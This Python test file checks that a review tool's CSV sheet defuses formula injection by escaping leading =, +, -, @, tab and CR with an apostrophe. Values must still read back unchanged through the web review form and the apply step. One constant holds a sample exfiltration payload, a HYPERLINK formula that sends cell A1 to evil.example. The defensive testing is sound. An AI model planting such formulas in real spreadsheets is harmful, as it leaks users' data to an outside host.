"""The review sheet (``qa.review.csv``, UTF-8 with BOM for Excel) holds no formula (issue 39, CSV injection): a
text starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written with a leading ``'`` (OWASP),
and read back -- by ``serve`` and ``review apply`` -- exactly as it was typed."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from test_serve_review import client, generated, post, qa, sheet_rows, version  # noqa: F401 (fixtures)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"클릭")'


@given(st.text(alphabet=st.sampled_from(list("=+-@'\t\r a가1\"")), max_size=8))
def test_every_text_reads_back_as_written_and_no_cell_starts_a_formula(value):
    from ragexam.questions.output import read_cell, sheet_cell

    cell = sheet_cell(value)
    assert read_cell(cell) == value
    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_known_cells():
    from ragexam.questions.output import read_cell, sheet_cell

    assert sheet_cell("=1+1") == "'=1+1" and sheet_cell("-5도") == "'-5도" and sheet_cell("@x") == "'@x"
    assert sheet_cell("'=1") == "''=1" and read_cell("''=1") == "'=1"  # an apostrophe typed before a formula
    assert sheet_cell("it's") == "it's" and sheet_cell("'quoted'") == "'quoted'" and sheet_cell("") == ""
    assert read_cell("'plain") == "'plain"  # an apostrophe that escapes nothing is text


def test_a_formula_typed_in_serve_is_text_in_the_sheet_and_reads_back_unchanged(qa, tmp_path):
    from ragexam.questions import apply_review

    c = client(qa)
    page = c.get("/review/1/item?key=gen_0001")
    r = post(c, "gen_0001", "accept", version(page, "gen_0001"), note=FORMULA)
    assert r.status_code == 303
    page = c.get("/review/1/item?key=gen_0002")
    question = page.text.split('id="e-question" rows="2">', 1)[1].split("</textarea>", 1)[0]
    import html

    r = post(c, "gen_0002", "save_accept", version(page, "gen_0002"), question=html.unescape(question),
             ground_truth="-40도에서도 잠깁니다", note="+1 @검토자",
             evidence=[html.unescape(e) for e in _evidence(page.text)])
    assert r.status_code == 303, r.text[:500]
    raw = qa.with_name("qa.review.csv").read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(raw)) for cell in row]
    assert not [x for x in cells if x[:1] in ("=", "+", "-", "@")]  # Excel runs none of them
    assert "'" + FORMULA in cells and "'-40도에서도 잠깁니다" in cells and "'+1 @검토자" in cells
    rows = sheet_rows(qa)
    assert rows["gen_0001"]["note"] == FORMULA and rows["gen_0002"]["ground_truth"] == "-40도에서도 잠깁니다"
    assert FORMULA in c.get("/review/1/item?key=gen_0001").text.replace("&#34;", '"').replace("&amp;", "&")
    res = apply_review(qa, None, tmp_path / "out.jsonl", pending="drop")
    got = {x["query_id"]: x for x in res.records}
    assert got["gen_0001"]["metadata"]["generation"]["review_note"] == FORMULA
    assert got["gen_0002"]["ground_truth"] == "-40도에서도 잠깁니다"
    assert got["gen_0002"]["metadata"]["generation"]["review_note"] == "+1 @검토자"


def _evidence(page_text):
    import re

    return [e for e in re.findall(r'<textarea name="evidence" class="e-evidence" rows="2">(.*?)</textarea>',
                                  page_text, re.S) if e]
